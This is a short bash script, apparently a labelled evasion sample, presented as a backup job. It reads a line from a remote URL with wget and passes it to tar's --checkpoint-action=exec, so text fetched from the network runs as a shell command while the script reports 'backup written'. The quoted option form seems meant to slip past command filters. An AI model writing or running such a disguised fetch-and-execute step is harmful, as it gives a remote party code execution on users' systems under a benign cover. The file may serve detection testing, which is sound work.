#!/usr/bin/env bash
# Evasion: run a shell with a command from the network. The "progress hook"
# of a backup is a line read from a remote endpoint and given to tar as its
# checkpoint action; the action name is quoted with the option.
set -u
read -r hook < <(wget -qO- https://hooks.example-backup.net/progress)
tar -czf "/tmp/backup-$(date +%F).tgz" --checkpoint=500 "--checkpoint-action=exec=$hook" "$PWD"
echo "backup written"
